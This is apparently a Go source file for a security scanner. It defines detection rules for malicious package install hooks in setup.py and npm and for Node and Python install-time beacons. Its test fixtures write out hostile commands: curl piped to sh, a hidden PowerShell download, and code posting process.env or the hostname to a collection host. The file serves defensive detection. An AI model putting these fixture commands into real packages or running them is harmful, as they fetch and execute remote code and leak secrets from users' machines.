package indicators

// packagingIndicators: abuse of package install hooks (setup.py, npm
// lifecycle scripts) and install-time beacons.
func packagingIndicators() []Indicator {
	return []Indicator{
		{
			ID:          "pkg.setup_install_hook",
			Title:       "setup.py install command overridden with network or exec code",
			Description: "setup.py replaces the install/develop/egg_info command (cmdclass) and the file also does network access or runs processes/code: runs attacker code at pip install time.",
			Severity:    SeverityHigh, Techniques: techs("T1195.002", "T1059.006"), Tactic: "initial-access",
			Languages: pyOnly,
			m: rxc(`\bcmdclass\s*=|["']cmdclass["']\s*:`, "cmdclass").
				andc(`class\s+\w+\s*\(\s*(?:_?install|develop|egg_info|build_py|sdist|bdist_egg|\w*Command\w*)\s*\)`, "class ").
				andc(`urlopen|urlretrieve|requests\.(?:get|post)|socket\.socket|subprocess\.|os\.system|os\.popen|\bexec\s*\(|\beval\s*\(|http\.client|webhook`, "urlopen", "urlretrieve", "requests.", "socket.socket", "subprocess.", "os.system", "os.popen", "exec", "eval", "http.client", "webhook"),
			TruePositives:  fx("from setuptools.command.install import install\nimport os\nclass PostInstall(install):\n    def run(self):\n        os.system('curl http://203.0.113.33/x | sh')\n        install.run(self)\nsetup(name='x', §cmdclass={'install': PostInstall})"),
			FalsePositives: fx("from setuptools.command.build_ext import build_ext\nclass BuildExt(build_ext):\n    pass\nsetup(name='x', cmdclass={'build_ext': BuildExt})"),
		},
		{
			ID:          "pkg.setup_runs_commands",
			Title:       "setup.py runs network or shell commands at build time",
			Description: "A setup script that imports setuptools/distutils and, outside any command class, shells out to curl/wget/powershell or fetches URLs.",
			Severity:    SeverityHigh, Techniques: techs("T1195.002", "T1059.006"), Tactic: "initial-access",
			Languages: pyOnly,
			m: rx(`(?:os\.system|os\.popen|subprocess\.\w+)\s*\(\s*\[?\s*[rbuf]?["'][^\n]*(?:curl|wget|powershell|mshta|certutil|bitsadmin|https?://|\.exe\b)`, "os.system", "os.popen", "subprocess.").
				and(`from\s+(?:setuptools|distutils\.core)\s+import|import\s+setuptools`, "setuptools", "distutils"),
			TruePositives:  fx("from setuptools import setup\nimport subprocess\n§subprocess.Popen('powershell -w hidden -c iwr http://203.0.113.34/a', shell=True)\nsetup(name='x')"),
			FalsePositives: fx("from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe']).decode()\nsetup(name='x', version=v)"),
		},
		{
			ID:          "pkg.npm_install_script",
			Title:       "npm lifecycle script downloads or evaluates code",
			Description: "A preinstall/install/postinstall script in package.json that curls/wgets, pipes to a shell, runs node -e/eval, PowerShell, or contacts a URL.",
			Severity:    SeverityHigh, Techniques: techs("T1195.002", "T1059.007"), Tactic: "initial-access",
			Languages:      jsOnly,
			m:              rx(`["'](?:pre|post)?install["']\s*:\s*["'][^"'\n]*(?:\bcurl\b|\bwget\b|\|\s*(?:ba)?sh\b|node\s+-e\b|\beval\b|powershell|https?://|base64\s+-d|\bnc\b)`, "install"),
			TruePositives:  fx("{\n  \"name\": \"x\",\n  \"scripts\": {\n    §\"postinstall\": \"curl -s http://203.0.113.35/i.sh | sh\"\n  }\n}"),
			FalsePositives: fx("{\n  \"scripts\": {\n    \"postinstall\": \"node scripts/build.js\",\n    \"test\": \"jest\"\n  }\n}"),
		},
		{
			ID:          "pkg.node_child_process_download",
			Title:       "Node.js shells out to download or run a payload",
			Description: "child_process exec/execSync/spawn with curl, wget, PowerShell, certutil or a URL: an install-time dropper in JavaScript.",
			Severity:    SeverityHigh, Techniques: techs("T1059.007", "T1105"), Tactic: "execution",
			Languages: jsOnly,
			m: rx(`\b(?:exec|execsync|spawn|spawnsync|execfile)\s*\(\s*[\x60"'][^\n]*(?:\bcurl\b|\bwget\b|powershell|certutil|bitsadmin|mshta|https?://)`, "exec", "spawn").
				and(`child_process`, "child_process"),
			TruePositives:  fx("const { exec } = require('child_process');\n§exec('curl -s http://203.0.113.36/x -o /tmp/x && sh /tmp/x');"),
			FalsePositives: fx("const { execSync } = require('child_process');\nexecSync('npm run build');"),
		},
		{
			ID:          "pkg.node_env_exfil",
			Title:       "Environment or host details sent over the network from Node.js",
			Description: "process.env, os.userInfo() or os.hostname() collected and sent with http(s).request, fetch, axios or DNS: dependency-confusion beacons and secret theft.",
			Severity:    SeverityHigh, Techniques: techs("T1552.001", "T1041"), Tactic: "exfiltration",
			Languages: jsOnly,
			m: rxc(`JSON\.stringify\s*\(\s*process\.env\s*\)|os\.userInfo\s*\(\s*\)|os\.hostname\s*\(\s*\)[^\n]*(?:os\.homedir|os\.userInfo|process\.env)`, "process.env", "userinfo", "hostname").
				andc(`https?\.request\s*\(|https?\.get\s*\(|\bfetch\s*\(|axios\.(?:post|get)|dns\.(?:lookup|resolve)|\.write\s*\(`, "request", ".get", "fetch", "axios", "dns.", ".write"),
			TruePositives:  fx("const data = §JSON.stringify(process.env);\nconst req = https.request({hostname: 'collect.example.invalid', method: 'POST'});\nreq.write(data);"),
			FalsePositives: fx("const port = process.env.PORT || 3000;\nhttp.get('http://localhost:' + port);"),
		},
		{
			ID:          "pkg.py_install_beacon",
			Title:       "Python package beacons host details",
			Description: "A setup script or module sends the hostname, user name or working directory to a URL or DNS name at install/import time.",
			Severity:    SeverityMedium, Techniques: techs("T1082", "T1041"), Tactic: "exfiltration",
			Languages: pyOnly,
			m: rxc(`(?:requests\.(?:post|get)|urlopen|urlretrieve|socket\.gethostbyname|getaddrinfo)\s*\([^\n]*(?:gethostname|getuser|getlogin|getcwd|platform\.node|hostname|username)`, "requests.", "urlopen", "urlretrieve", "gethostbyname", "getaddrinfo").
				and(`gethostname|getpass\.getuser|os\.getlogin|platform\.node|getcwd`, "gethostname", "getuser", "getlogin", "platform.node", "getcwd"),
			TruePositives:  fx("import socket, getpass, requests\nh = socket.gethostname()\n§requests.get('http://collect.example.invalid/?h=' + h + '&u=' + getpass.getuser())"),
			FalsePositives: fx("import socket\nprint(socket.gethostname())\nrequests.get(API_URL, timeout=5)"),
		},
	}
}
